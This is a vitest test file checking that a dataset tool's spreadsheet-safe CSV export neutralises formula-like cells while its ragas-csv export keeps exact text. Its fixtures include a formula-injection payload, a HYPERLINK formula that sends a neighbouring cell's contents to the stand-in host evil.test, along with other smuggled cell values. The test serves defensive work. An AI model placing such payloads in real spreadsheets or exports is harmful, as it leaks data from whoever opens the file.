// Spreadsheet-safe CSV is the Export page's default and neutralises formula-like cells, in the
// sample and the response exports alike; ragas-csv, read by pandas, keeps the exact text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { setupAdmin, startTestApp, type Client, type TestApp } from '../helpers.ts';

let app: TestApp;
let admin: Client;
let ds: number;
const FORMULA = '=HYPERLINK("http://evil.test/?leak="&B2,"Click")';

beforeAll(async () => {
  app = await startTestApp();
  admin = await setupAdmin(app);
  ds = app.ctx.datasets.create(null, { name: 'CSV', description: '', language: 'zh', domain: '' }).id;
  await admin.get(`/datasets/${ds}/import`);
  const rows = [
    { question: '张伟是哪个部门的？', ground_truth: FORMULA, reference_contexts: ['@SUM(A1)'], response: '-1+2', retrieved_contexts: ['+cmd'], system: '\t=tab', 'human.score': '-2' },
    { question: '=1+1 is a question too', ground_truth: '-3', response: 'fine', system: 'v1', 'human.score': '2' },
  ];
  const res = await admin.upload(`/datasets/${ds}/import`, 'rows.jsonl', rows.map((r) => JSON.stringify(r)).join('\n'), {});
  expect(res.status).toBe(200);
  // The score criterion is ordinal from -2 to 2, so its gold values are negative numbers.
  app.ctx.db.prepare("UPDATE criterion SET kind = 'ordinal', scale_min = -2, scale_max = 2, options = '[]' WHERE dataset_id = ?").run(ds);
});
afterAll(async () => { await app.close(); });

const download = async (query: string) => {
  const res = await admin.get(`/datasets/${ds}/export/download?status=all&${query}`);
  expect(res.status).toBe(200);
  return res.text;
};

describe('CSV exports', () => {
  it('offers spreadsheet-safe CSV first and checked, and says ragas-csv keeps the exact text for pandas', async () => {
    const page = await admin.get(`/datasets/${ds}/export`);
    expect(page.text).toMatch(/<input type="radio" id="fmt-sheet" name="format" value="spreadsheet-csv" checked/);
    expect(page.text.indexOf('fmt-sheet')).toBeLessThan(page.text.indexOf('fmt-csv'));
    expect(page.text).toContain('Exact text, for pandas.read_csv');
  });

  it('neutralises formula-like cells of samples and responses, keeping numbers numeric', async () => {
    // A UTF-8 BOM first, so Excel reads the Chinese text right (text() would hide it: read the bytes).
    const raw = await fetch(`${app.url}/datasets/${ds}/export/download?status=all&format=spreadsheet-csv`, { headers: { Cookie: admin.cookie } });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(await download('format=spreadsheet-csv')) as string[][];
    expect(rows[0]).toEqual(['user_input', 'reference', 'reference_contexts']);
    const byQuestion = new Map(rows.slice(1).map((r) => [r[0]!, r]));
    expect(byQuestion.get('张伟是哪个部门的？')![1]).toBe(`'${FORMULA}`);
    expect(byQuestion.get("'=1+1 is a question too")![1]).toBe('-3');
    const responses = parse(await download('format=spreadsheet-csv&responses=1'), { columns: true }) as Record<string, string>[];
    const first = responses.find((r) => r.user_input === '张伟是哪个部门的？')!;
    expect([first.response, first.system, first['human.score']]).toEqual(["'-1+2", "'\t=tab", '-2']);
    for (const r of responses) for (const cell of Object.values(r)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('keeps the exact text in ragas-csv, which pandas reads', async () => {
    const rows = parse(await download('format=ragas-csv')) as string[][];
    expect(rows.some((r) => r[1] === FORMULA)).toBe(true);
    expect(rows.some((r) => r[0] === '=1+1 is a question too')).toBe(true);
  });
});
